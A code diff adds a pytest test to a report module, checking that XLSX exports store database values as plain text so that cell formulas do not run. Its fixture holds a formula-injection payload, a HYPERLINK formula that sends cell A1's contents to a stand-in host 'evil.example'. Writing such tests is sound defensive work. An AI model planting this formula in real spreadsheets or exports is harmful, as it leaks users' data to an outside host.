@@ -173,3 +173,19 @@ def test_a_value_no_file_can_take_names_its_column() -> None:
     fine = render_report({"r": df.drop(columns="opens")}, "r", "R", None, ("csv", "xlsx"), None)
     book = pd.read_excel(io.BytesIO(fine.attachments[1].content))
     assert book["tags"].tolist() == ["['a', 'b']"]  # an array's text, as in the CSV
+
+
+def test_xlsx_cells_are_data_never_formulas() -> None:
+    """A value from the database that starts with '=' must not run as a formula when the file is opened."""
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from airflow_opsflow.reports.render import xlsx_bytes
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"data": pd.DataFrame({"note": [evil, "=1+1", "ok"]})})))
+    cells = [row[0] for row in book["data"].iter_rows(min_row=2)]
+    assert [c.value for c in cells] == [evil, "=1+1", "ok"]
+    assert {c.data_type for c in cells} == {"s"}
